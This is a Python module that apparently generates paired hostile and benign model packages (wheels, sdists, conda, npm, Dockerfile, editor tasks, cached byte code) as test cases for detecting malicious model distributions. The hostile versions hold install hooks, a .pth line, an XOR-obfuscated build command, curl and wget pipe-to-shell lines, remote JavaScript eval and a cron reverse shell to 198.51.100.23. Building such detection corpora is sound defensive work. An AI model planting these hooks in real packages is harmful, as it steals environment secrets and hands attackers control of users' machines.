"""Packages that carry weights, and scripts and settings beside models."""
import base64
import hashlib
import importlib.util
import json
import marshal
import struct
import zipfile

from pair import CODE, SHELL

from .shared import elf, floats, noise, plain_tensors, safetensors, tarred, zipped

F = "packages"


def wheel(files: dict, name="tinyweights", version="1.0") -> bytes:
    files = {k: v.encode() if isinstance(v, str) else v for k, v in files.items()}
    info = f"{name}-{version}.dist-info"
    files[f"{info}/METADATA"] = f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\nSummary: Weights of a small classifier\n".encode()
    files[f"{info}/WHEEL"] = b"Wheel-Version: 1.0\nGenerator: bdist_wheel (0.43.0)\nRoot-Is-Purelib: true\nTag: py3-none-any\n"
    digest = lambda d: base64.urlsafe_b64encode(hashlib.sha256(d).digest()).rstrip(b"=").decode()  # noqa: E731
    record = "".join(f"{k},sha256={digest(v)},{len(v)}\n" for k, v in files.items()) + f"{info}/RECORD,,\n"
    return zipped([*files.items(), (f"{info}/RECORD", record.encode())], zipfile.ZIP_DEFLATED)


def sdist(files: dict, name="tinyweights-1.0") -> bytes:
    info = b"Metadata-Version: 2.1\nName: tinyweights\nVersion: 1.0\n"
    members = {"PKG-INFO": info, "tinyweights/__init__.py": b'__version__ = "1.0"\n', "tinyweights/model.safetensors": plain_tensors(), **files}
    return tarred({f"{name}/{k}": v.encode() if isinstance(v, str) else v for k, v in members.items()}, "w:gz")


def module_pyc(source: str) -> bytes:
    """Byte code with an unchecked hash: CPython takes it without a look at the source."""
    code = compile(source, "preprocessing.py", "exec")
    return importlib.util.MAGIC_NUMBER + struct.pack("<I", 1) + bytes(8) + marshal.dumps(code)


def conda(script: str) -> bytes:
    index = json.dumps({"name": "tinyweights", "version": "1.0", "build": "0", "build_number": 0, "depends": ["python >=3.9"], "subdir": "noarch"})
    files = {"info/index.json": index.encode(), "share/tinyweights/model.safetensors": plain_tensors(), "bin/.tinyweights-post-link.sh": script.encode()}
    paths = {"paths_version": 1, "paths": [{"_path": k, "path_type": "hardlink", "sha256": hashlib.sha256(v).hexdigest(), "size_in_bytes": len(v)} for k, v in files.items() if not k.startswith("info/")]}
    return tarred({**files, "info/paths.json": json.dumps(paths).encode()}, "w:bz2")


def add(out):
    def pair(name, hostile, twin, why, prove=None, file=None):
        out.add(F, name, hostile, twin, prove=prove, file=file, why=why)

    body = {"tinyweights/__init__.py": '__version__ = "1.0"\n', "tinyweights/model.safetensors": plain_tensors()}
    pair("wheel-pth-line", wheel({**body, "tinyweights-nspkg.pth": f"import tinyweights; {CODE}\n"}), wheel({**body, "tinyweights-nspkg.pth": "tinyweights_data\n"}),
         "A .pth file of the wheel runs a line at each start of the interpreter.", "ninth-pth", "tinyweights-1.0-py3-none-any.whl")
    toml = lambda extra: f'[build-system]\nrequires = []\nbuild-backend = "{extra}"\nbackend-path = ["_build"]\n\n[project]\nname = "tinyweights"\nversion = "1.0"\n'  # noqa: E731
    hook = "def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):\n    {}\n    return 'tinyweights-1.0-py3-none-any.whl'\n"
    pair("sdist-own-backend", sdist({"pyproject.toml": toml("hook"), "_build/hook.py": hook.format("import subprocess\n    subprocess.run(bytes(b ^ 7 for b in " + repr(bytes(b ^ 7 for b in SHELL.encode())) + ").decode(), shell=True)")}),
         sdist({"pyproject.toml": toml("hook"), "_build/hook.py": hook.format("import zipfile\n    zipfile.ZipFile(wheel_directory + '/tinyweights-1.0-py3-none-any.whl', 'w').close()")}),
         "The build back end travels in the sdist and runs a hidden command when pip builds.", "ninth-backend", "tinyweights-1.0.tar.gz")
    pair("wheel-scripts-shadow-python", wheel({**body, "tinyweights-1.0.data/scripts/python3": b"#!/bin/sh\n" + SHELL.encode() + b"\ncurl -s http://198.51.100.23/k -d \"$(env)\"\nexec /usr/bin/python3 \"$@\"\n"}),
         wheel({**body, "tinyweights-1.0.data/scripts/tinyweights-convert": b"#!python\nfrom tinyweights import __version__\nprint(__version__)\n"}),
         "Installing puts a python3 first in PATH that sends the environment away. Not run: network.", None, "tinyweights-1.0-py3-none-any.whl")
    meta = lambda code: plain_tensors({"format": "pt", "init": code})  # noqa: E731
    loader = 'import json\nimport struct\n\nwith open("model.safetensors", "rb") as f:\n    size = struct.unpack("<Q", f.read(8))[0]\n    head = json.loads(f.read(size))\nsetup = head["__metadata__"]["init"]\n{}\n'
    pair("script-runs-metadata", {"load.py": loader.format("eval(compile(setup, 'init', 'exec'))"), "model.safetensors": meta(CODE)}, {"load.py": loader.format("print('initialised with', setup)"), "model.safetensors": meta("normal_(std=0.02)")},
         "The script runs as code what the metadata of the weights says.", "ninth-run:load.py")
    pair("conda-post-link", conda(f"#!/bin/sh\n{SHELL}\nwget -qO- http://198.51.100.23/i | sh\n"), conda("#!/bin/sh\necho \"weights are in $PREFIX/share/tinyweights\" >> \"$PREFIX/.messages.txt\"\n"),
         "The post-link script of a conda package downloads and runs a script. Not run: network.", None, "tinyweights-1.0-0.tar.bz2")
    npm = lambda script: {"package.json": json.dumps({"name": "tiny-onnx", "version": "1.0.0", "main": "index.js", "files": ["model.onnx", "index.js"], "scripts": {"postinstall": script}}, indent=2), "index.js": "module.exports = require('path').join(__dirname, 'model.onnx');\n"}  # noqa: E731
    pair("npm-postinstall", npm("node -e \"require('https').get('https://198.51.100.23/p.js',r=>{let b='';r.on('data',d=>b+=d).on('end',()=>eval(b))})\""), npm("node -e \"console.log('model ready')\""),
         "Installing evaluates JavaScript from a bare address. Not run: network.")
    tail = b"\n#--\n" + SHELL.encode() + b"\n"
    with_tail = safetensors({"w": ("F32", [16], floats(16)), "pad": ("U8", [len(tail)], tail)})
    no_tail = safetensors({"w": ("F32", [16], floats(16)), "pad": ("U8", [len(tail)], noise(len(tail), 4))})
    pair("shell-runs-tail-of-weights", {"setup.sh": "#!/bin/sh\nset -e\nsed -e '1,/^#--$/d' model.safetensors | sh\n", "model.safetensors": with_tail}, {"setup.sh": "#!/bin/sh\nset -e\ntail -c 64 model.safetensors | sha256sum\n", "model.safetensors": no_tail},
         "The setup script pipes the end of the weights into a shell.", "ninth-sh:setup.sh")
    source = "def scale(x):\n    return [v / 255 for v in x]\n"
    at = importlib.util.cache_from_source("preprocessing.py")
    pair("byte-code-is-not-the-source", {"preprocessing.py": source, at: module_pyc(source + CODE + "\n")}, {"preprocessing.py": source, at: module_pyc(source)},
         "The cached byte code has an unchecked hash and differs from the innocent source; Python runs the cache.", "ninth-import:preprocessing")
    task = lambda command, on: {".vscode/tasks.json": json.dumps({"version": "2.0.0", "tasks": [{"label": "prepare", "type": "shell", "command": command, "presentation": {"reveal": "never"}, "runOptions": {"runOn": on}}]}, indent=2), "model.safetensors": plain_tensors()}  # noqa: E731
    pair("editor-task-on-open", task("curl -fsSL http://198.51.100.23/s | bash", "folderOpen"), task("python -m pytest -q", "default"), "Opening the model's folder in an editor downloads and runs a script. Not run: network.")
    docker = lambda line: {"Dockerfile": f"FROM python:3.11-slim\nWORKDIR /app\nCOPY model.safetensors /app/\nRUN pip install --no-cache-dir safetensors\n{line}\nCMD [\"python\", \"-m\", \"http.server\"]\n", "model.safetensors": plain_tensors()}  # noqa: E731
    pair("dockerfile-reverse-shell", docker("RUN (crontab -l; echo '* * * * * bash -c \"bash -i >& /dev/tcp/198.51.100.23/4444 0>&1\"') | crontab -"), docker("RUN (crontab -l; echo '0 3 * * * find /app/cache -mtime +7 -delete') | crontab -"),
         "The image opens a reverse shell each minute. Not run: network.")
    lib = bytearray(elf(size=5000))
    lib[16] = 3
    ct = lambda name, blob: {"infer.py": f"import ctypes\nimport pathlib\n\nHERE = pathlib.Path(__file__).parent\nif __name__ == '__main__':\n    data = {'ctypes.CDLL(str(HERE / ' + repr(name) + '))' if blob[:4] == bytes(lib[:4]) else '(HERE / ' + repr(name) + ').read_bytes()'}\n    print(len(str(data)))\n", name: bytes(blob)}  # noqa: E731
    pair("script-loads-library-named-weights", ct("encoder.weights", lib), ct("encoder.weights", noise(len(lib), 8)), "A shared library named .weights that the script loads as code. Not run: the library is a stub.")
